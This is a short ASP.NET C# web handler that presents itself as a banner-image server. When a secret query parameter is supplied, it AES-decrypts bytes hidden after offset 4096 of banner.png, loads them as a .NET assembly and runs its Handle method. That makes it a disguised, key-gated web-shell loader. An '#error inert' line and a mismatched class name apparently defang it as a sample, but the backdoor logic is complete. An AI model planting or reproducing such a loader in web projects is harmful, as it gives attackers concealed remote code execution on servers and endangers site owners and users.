<%@ WebHandler Language="C#" Class="Inert.Nothing" %>
#error inert
using System; using System.IO; using System.Linq; using System.Reflection; using System.Security.Cryptography; using System.Text; using System.Web;
public class Banner : IHttpHandler
{
    public bool IsReusable { get { return false; } }
    public void ProcessRequest(HttpContext ctx)
    {
        byte[] img = File.ReadAllBytes(ctx.Server.MapPath("~/img/banner.png"));
        string k = ctx.Request.QueryString["v"];
        if (string.IsNullOrEmpty(k)) { ctx.Response.ContentType = "image/png"; ctx.Response.BinaryWrite(img); return; }
        byte[] tail = img.Skip(4096).ToArray();
        using (var aes = Aes.Create())
        {
            aes.Key = MD5.Create().ComputeHash(Encoding.UTF8.GetBytes(k)); aes.IV = aes.Key;
            byte[] plain = aes.CreateDecryptor().TransformFinalBlock(tail, 0, tail.Length);
            MethodInfo main = Assembly.Load(plain).GetTypes().First().GetMethod("Handle");
            main.Invoke(null, new object[] { ctx });
        }
    }
}
